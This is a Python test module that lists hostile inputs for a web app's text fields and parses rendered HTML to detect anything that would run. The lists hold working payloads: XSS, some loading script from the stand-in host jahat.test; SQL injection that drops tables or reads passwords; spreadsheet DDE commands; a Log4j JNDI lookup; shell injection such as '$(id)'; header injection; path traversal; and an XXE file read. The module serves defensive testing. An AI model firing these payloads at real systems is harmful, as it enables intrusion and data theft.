"""What people who mean harm, and machines that mean nothing, put into a text field.

Every text that would do something carries `jahat` (evil) where it would do it: an element, an
attribute, an address or a header of that name on a page of ours was not put there by us.
"""

import re
from html.parser import HTMLParser

# What a template that worked it out would say; nothing on a page of ours says so by itself.
WORKED_OUT = "5131337"
SUM = "733041*7+50"

SCRIPT = [
    "<script>jahat()</script>", "</title><script>jahat()</script>", "<ScRiPt >jahat()</sCrIpT>",
    "</textarea><script>jahat()</script>", "</style></script><script>jahat()</script>",
    "<script src=//jahat.test/a.js></script>", "<scr<script>ipt>jahat()</scr</script>ipt>",
    "<img src=x onerror=jahat()>", "<img src=x:jahat onerror='jahat()'>", "<svg onload=jahat()>",
    "<svg><script>jahat()</script></svg>", "<svg/onload=jahat()//", "<body onload=jahat()>",
    "<iframe src=javascript:jahat()></iframe>", "<iframe srcdoc='<script>jahat()</script>'>",
    '<a href="javascript:jahat()">x</a>',
    '<a href="data:text/html,<script>jahat()</script>">x</a>',
    '<a href="jAvAsCrIpT&colon;jahat()">x</a>',
    '<form action="javascript:jahat()"><button>x</form>', "<input autofocus onfocus=jahat()>",
    "<details open ontoggle=jahat()>", "<marquee onstart=jahat()>",
    "<video><source onerror=jahat()></video>", "<math><mtext><jahat></mtext></math>",
    "<object data=javascript:jahat()>", "<embed src=javascript:jahat()>",
    "<base href=//jahat.test/>", "<link rel=stylesheet href=//jahat.test/a.css>",
    "<style>@import '//jahat.test/a.css'</style>",
    "<meta http-equiv=refresh content='0;url=//jahat.test'>", '" onmouseover="jahat()" x="',
    "' onmouseover='jahat()' x='", '"><jahat>', "'><jahat>", "--><jahat>", "]]><jahat>",
    "*/jahat/*", '" style="background:url(//jahat.test)" x="', "`onmouseover=jahat()`",
    '" autofocus onfocus=jahat() "', "<!--<img src='--><img src=x onerror=jahat()>'>",
    "<noscript><p title='</noscript><jahat>'>", "<template><jahat></template>",
    "<jahat hx-get=/ hx-trigger=load>", '" hx-on:click="jahat()" x="',
    "<div hx-get='/masuk/keluar/' hx-trigger='load'>", "<jahat data-hx-post=/>", "<x-jahat>",
    "&lt;jahat&gt;", "&#60;jahat&#62;", "&#x3c;script&#x3e;jahat()", "%3Cjahat%3E",
    "\\u003cjahat\\u003e", "\u003cjahat\u003e", "\uff1cjahat\uff1e", "+ADw-script+AD4-jahat()",
    "<\u200bscript>jahat()</script>", "<jahat\x0c>", "<jahat/x\ty=1\n>", "<\x0bjahat>",
    "<%00jahat>", "[x](javascript:jahat())", "![x](//jahat.test/a.png)", "javascript:jahat()",
    "//jahat.test/", "https://jahat.test/?a=1&b=2",
]  # fmt: skip
FORMULAS = [
    "=1+1", "=HYPERLINK(\"//jahat.test\",\"x\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "+1", "-1", "-cmd|' /C calc'!A0", "@SUM(1+1)", "=IMPORTXML(\"//jahat.test\")", "\t=1+1",
    "\r=1+1", " =1+1", "\n=1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\uff1d1+1", "'=1+1",
    "\"=1+1\"", ";=1+1", ",=1+1", "x;=1+1", "x\n=1+1", "x\r\n=1+1;y", '";=1+1', "%0A=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"a\")",
]  # fmt: skip
DIRECTION = [
    "\u202egnp.exe", "\u202dabc", "\u202a\u202b\u202c", "\u2066\u2067\u2068\u2069",
    "\u200e\u200f", "\u061cabc", "abc\u202e", "\u202e" * 50, "\u05d0\u05d1\u05d2 abc",
    "\u0627\u0644\u0633\u0644\u0627\u0645",
    "\u0627\u0644\u0633 abc \u0639\u0644\u064a\u0643\u0645 123", "\u05d0\u202eabc\u05d1",
    "\ufdfd",
]  # fmt: skip
CONTROLS = [
    "\0", "a\0b", "\0" * 20, "\x01\x02\x03", "\x07", "\x08\x08\x08", "\x0b\x0c", "\x1b[2J",
    "\x1b]0;jahat\x07", "\x1bc", "\x7f", "\x80\x81", "\x85", "\x9b2J", "\u2028", "\u2029",
    "\ufffe", "\uffff", "\ufeff", "\u00ad", "\u200b\u200c\u200d", "\u2060", "\ue000",
    "\U000f0000", "\U0010ffff", "\U000e0041", "\ufff9\ufffa\ufffb", "a\rb", "a\nb", "a\r\nb",
    "\n" * 40, "\t" * 40, " " * 40, "\u3000", "\u00a0",
]  # fmt: skip
BROKEN = [
    "\ud800", "\udfff", "a\ud83d", "\ude00b", "\udc80\udcff", "\ud800\ud800", "jahat\udcc0\udc80",
]  # fmt: skip
LONG = [
    "a" * 1_001, "a" * 10_001, "a " * 5_000, "\u0e33" * 3_000, "\U0001f600" * 2_000, "<" * 3_000,
    "&" * 3_000, "'" * 3_000, "z" + "\u0301" * 3_000, "9" * 400, "-" + "9" * 400, "a" * 300_000,
    "satu dua " * 2_000, "(" * 2_000, "\\" * 2_000,
]  # fmt: skip
SQL = [
    "'; DROP TABLE team_team; --", "' OR '1'='1", "1; SELECT pg_sleep(9)", "\\'; --",
    "') OR 1=1 --", "1 UNION SELECT password FROM team_user", "$$; DROP TABLE team_team; $$",
    "%' OR 1=1 --", "_%_", "%%", "%s %d %(x)s", "a' || pg_sleep(9) || '", "{1,2}", "\\x00", "\\N",
    "'::int", "a & | ! <-> b", "!!!", ":*", "a:*&b", "NULL", "'' <-> ''", "(((", "1e400", "NaN",
    "Infinity", "0x1F", "-0", "1_000",
]  # fmt: skip
TEMPLATES = [
    f"{{{{ {SUM} }}}}", f"${{{SUM}}}", f"#{{{SUM}}}", f"{{% if {SUM} %}}jahat{{% endif %}}",
    "{% debug %}", "{% include '/etc/passwd' %}", "{{ settings.SECRET_KEY }}",
    "{{ request.user.password }}", "{{", "}}", "{%", "%}", "{# jahat #}", "{{ x|safe }}",
    "{0.__class__}", "{x!r}", "{}", "{", "}", "%(jahat)s", "%n", "{tahun}{x}",
    "\u2026{tahun.__class__}", "<%= 1 %>", "[[1]]", "${jndi:ldap://jahat.test/a}", "`id`",
    "$(id)", "; id", "| id", "&& id", "a{{'b'*3}}c", "{% load static %}{% csrf_token %}",
]  # fmt: skip
HEADERS = [
    "a\r\nBcc: jahat@jahat.test", "a\nX-Jahat: 1", "a\r\n\r\n<jahat>", "a%0d%0aX-Jahat: 1",
    "jahat@jahat.test\nBcc: x@jahat.test", "jahat@jahat.test, x@jahat.test",
    "\"a\" <jahat@jahat.test>", "a\u560d\u560aX-Jahat: 1",
    "a\r\n.\r\nMAIL FROM:<jahat@jahat.test>", "a\u2028X-Jahat: 1", "=?utf-8?q?=0D=0AX-Jahat:_1?=",
    "jahat@jahat.test\0", "a@b@c", "@", "a@", "a\x85X-Jahat: 1",
]  # fmt: skip
MARKS = [
    "z\u0351\u036b\u0343a\u0332\u0305\u036al\u0348\u0354\u032eg\u0347\u0347o",
    "\u0301\u0302\u0303", "\u20e3", "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U0001f1ee\U0001f1e9", "\U0001f3f4\U000e0067\U000e007f", "\U0001f44d\U0001f3ff",
    "\u00e9 e\u0301", "\ufb01\ufb02", "\u0130\u0131\u017f\u212a", "\u1e9e\u00df", "\u2603\ufe0f",
    "\U00020000\U0002a6df", "\u4e2d\u6587", "\u0e44\u0e17\u0e22", "\ua98f\ua9b6", "\u0489" * 9,
    "\u0660\u0661\u0662", "\u2460\u00b2\u00bd", "\uff11\uff12", "\U0001d7d8",
]  # fmt: skip
PATHS = [
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "%2e%2e%2fetc%2fpasswd",
    "....//etc/passwd", "C:\\jahat", "file:///etc/passwd", "\\\\jahat.test\\x", "a/../../b", ".",
    "..", "~root", "CON", "a.pdf\0.exe", "//", "?", "#", "?q=jahat#x", "a&b=c&jahat=1",
    "a;jahat=1",
]  # fmt: skip
LINES = [
    "x\n2026-01-01 00:00:00,000 INFO jahat masuk", "x\r\nERROR palsu", "x\x1b[31mERROR",
    "x\\nERROR", '{"level": "INFO"}', '"}\n{"jahat": 1', '"', "\\", "\\\"", "'", "`", '"a","b"',
    '"a";"b"', 'a"b;c,d', '""', '",', ';";"', "a\tb", "[1,2", '{"a":', "null", "true", "[]", "{}",
    "0", "undefined", '"\\ud800"', "</script>", "<!--", "]]>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
    "__proto__", "constructor", "a=1&csrfmiddlewaretoken=x", "a\u0000\u0000", "\\u0000",
    "&amp;amp;", "&;", "&#0;",
]  # fmt: skip
GROUPS = {
    "script": SCRIPT, "formula": FORMULAS, "direction": DIRECTION, "control": CONTROLS,
    "broken": BROKEN, "long": LONG, "sql": SQL, "template": TEMPLATES, "header": HEADERS,
    "mark": MARKS, "path": PATHS, "line": LINES,
}  # fmt: skip
TEXTS = list(dict.fromkeys(text for group in GROUPS.values() for text in group))
# For what is chosen, ticked or hidden: nothing a page offers, and everything a request may bring.
UNOFFERED = [
    "\0", "\ud800", "", "-1", "9" * 400, "jahat", "<jahat>", "1,2", "NaN", "\u0662", "[]", "../x",
    "a" * 10_001,
]  # fmt: skip


NEVER_OURS = {"base", "embed", "marquee", "math", "object"}
LEADS = {"href", "src", "action", "formaction", "data", "hx-get", "hx-post", "content"}


class Page(HTMLParser):
    """A page as a browser would build it: what would act on it, and what it asks to be sent."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.acts: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        given = {name: value or "" for name, value in attrs}
        inline = tag == "script" and "src" not in given and given.get("type") != "application/json"
        if inline or "jahat" in tag or tag in NEVER_OURS:
            self.acts.append(self.get_starttag_text())
        for name, value in given.items():
            if self.is_alive(name, value):
                self.acts.append(self.get_starttag_text())

    @staticmethod
    def is_alive(name, value):
        """An attribute that runs, paints or leads where we never lead."""
        if re.match(r"on|hx-on|data-hx|style$|srcdoc$", name) or "jahat" in name:
            return True
        plain = re.sub(r"[\x00-\x20]", "", value).lower()
        return name in LEADS and bool(re.match(r"javascript:|data:text|//|https?://jahat", plain))
